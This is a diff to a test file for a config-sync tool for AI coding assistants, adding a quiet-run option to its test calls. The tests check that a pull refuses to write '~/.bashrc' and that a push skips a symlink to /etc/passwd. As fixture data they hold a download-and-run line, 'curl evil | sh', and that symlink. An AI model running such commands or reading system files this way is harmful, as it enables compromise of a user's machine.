@@ -8,6 +8,7 @@ import { outcomeFailure } from '../../src/client/report'
 import { type Report, resolveTarget, runOne } from '../../src/client/run'
 import { scopeFor } from '../../src/client/scope'
 import { syntaxError } from '../../src/client/sync/syntax'
+import { quietRun } from '../support/client-io'
 import { homePerTest } from '../support/client/home'
 import { tempDir } from '../support/temp'
 
@@ -97,14 +98,14 @@ describe("the tool's files", () => {
 	test('a pull never writes ~/.bashrc, even named; a push of a tool file leaves it out of what it sends', async () => {
 		const { server, session } = standIn({ '.gemini/GEMINI.md': 'team\n', '.bashrc': 'curl evil | sh\n' })
 		const t = await resolveTarget(session, 'gemini-cli', {})
-		const pulled = await runOne(session, t, { mode: 'pull', named: ['.bashrc', '.gemini/GEMINI.md'] })
+		const pulled = await runOne(session, t, { ...quietRun(), mode: 'pull', named: ['.bashrc', '.gemini/GEMINI.md'] })
 		expect(readText('.bashrc')).toBeUndefined()
 		expect(readText('.gemini/GEMINI.md')).toBe('team\n')
 		expect(pulled.skipped.map((s) => s.key)).toContain('.bashrc')
 		expect(pulled.outside).not.toContain('.bashrc')
 
 		put('.gemini/GEMINI.md', 'team, v2\n')
-		await runOne(session, t, { mode: 'push' })
+		await runOne(session, t, { ...quietRun(), mode: 'push' })
 		expect(server.pushes).toEqual([{ '.gemini/GEMINI.md': 'team, v2\n' }])
 	})
 })
@@ -129,7 +130,7 @@ describe('links out of home', () => {
 		symlinkSync('/etc/passwd', join(homeNow(), '.claude', 'commands', 'passwd-link.md'))
 		const { server, session } = standIn()
 		const t = await resolveTarget(session, 'claude-code', {})
-		const pushed = await runOne(session, t, { mode: 'push' })
+		const pushed = await runOne(session, t, { ...quietRun(), mode: 'push' })
 		expect(server.pushes).toEqual([{ '.claude/commands/ok.md': 'ok\n' }])
 		expect(pushed.skipped).toEqual([expect.objectContaining({ key: '.claude/commands/passwd-link.md' })])
 
@@ -139,7 +140,7 @@ describe('links out of home', () => {
 			'.claude/commands/passwd-link.md': 'an old command\n'
 		})
 		put('.claude/commands/ok.md', 'ok, edited\n')
-		await runOne(again, await resolveTarget(again, 'claude-code', {}), { mode: 'sync' })
+		await runOne(again, await resolveTarget(again, 'claude-code', {}), { ...quietRun(), mode: 'sync' })
 		expect(other.pushes).toEqual([
 			{ '.claude/commands/ok.md': 'ok, edited\n', '.claude/commands/passwd-link.md': 'an old command\n' }
 		])
@@ -152,7 +153,7 @@ describe('a file that does not parse is not pushed', () => {
 		put('.gemini/GEMINI.md', 'rules\n')
 		const { server, session } = standIn()
 		const t = await resolveTarget(session, 'gemini-cli', { name: 'work' })
-		const report = await runOne(session, t, { mode: 'push' })
+		const report = await runOne(session, t, { ...quietRun(), mode: 'push' })
 		expect(server.pushes).toEqual([])
 		expect(report.invalid).toEqual([
 			{ key: '.gemini/settings.json', why: 'not valid JSON, line 3, column 3: a comma is missing' }
@@ -162,28 +163,28 @@ describe('a file that does not parse is not pushed', () => {
 		expect(message).toContain('line 3, column 3')
 		expect(message).toContain('cfgsync push gemini-cli --name work --force')
 
-		const forced = await runOne(session, t, { mode: 'push', choose: { side: 'mine' } })
+		const forced = await runOne(session, t, { ...quietRun(), mode: 'push', choose: { side: 'mine' } })
 		expect(forced.pushed?.files).toEqual(['.gemini/GEMINI.md', '.gemini/settings.json'])
 	})
 
 	test("sync: the pull half is done, nothing of the config is sent; an invalid file already on the server is not this push's", async () => {
 		const { server, session } = standIn({ '.codex/config.toml': 'model = "o3"\n', '.codex/AGENTS.md': 'v1\n' })
 		const t = await resolveTarget(session, 'codex', {})
-		await runOne(session, t, { mode: 'pull' })
+		await runOne(session, t, { ...quietRun(), mode: 'pull' })
 		server.config = {
 			version: 2,
 			hash: 'h2',
 			data: { files: { '.codex/config.toml': 'model = "o3"\n', '.codex/AGENTS.md': 'v2\n' } }
 		}
 		put('.codex/config.toml', 'model = "o3"\nsandbox_mode = \n')
-		const report = await runOne(session, t, { mode: 'sync' })
+		const report = await runOne(session, t, { ...quietRun(), mode: 'sync' })
 		expect(server.pushes).toEqual([])
 		expect(readText('.codex/AGENTS.md')).toBe('v2\n')
 		expect(report.invalid.map((r) => r.key)).toEqual(['.codex/config.toml'])
 		expect(outcomeFailure(report)?.exitCode).toBe(1)
 		// Fixed, the next sync sends it.
 		put('.codex/config.toml', 'model = "o4"\n')
-		const fixed = await runOne(session, t, { mode: 'sync' })
+		const fixed = await runOne(session, t, { ...quietRun(), mode: 'sync' })
 		expect(fixed.pushed?.version).toBe(3)
 
 		// Someone pushed a broken file with --force: this machine's other edits still go out.
@@ -192,9 +193,9 @@ describe('a file that does not parse is not pushed', () => {
 			hash: 'h4',
 			data: { files: { '.codex/config.toml': 'broken = \n', '.codex/AGENTS.md': 'v2\n' } }
 		}
-		await runOne(session, t, { mode: 'pull', choose: { side: 'theirs' } })
+		await runOne(session, t, { ...quietRun(), mode: 'pull', choose: { side: 'theirs' } })
 		put('.codex/AGENTS.md', 'v3\n')
-		const other = await runOne(session, t, { mode: 'push' })
+		const other = await runOne(session, t, { ...quietRun(), mode: 'push' })
 		expect(other.invalid).toEqual([])
 		expect(other.pushed?.version).toBe(5)
 	})
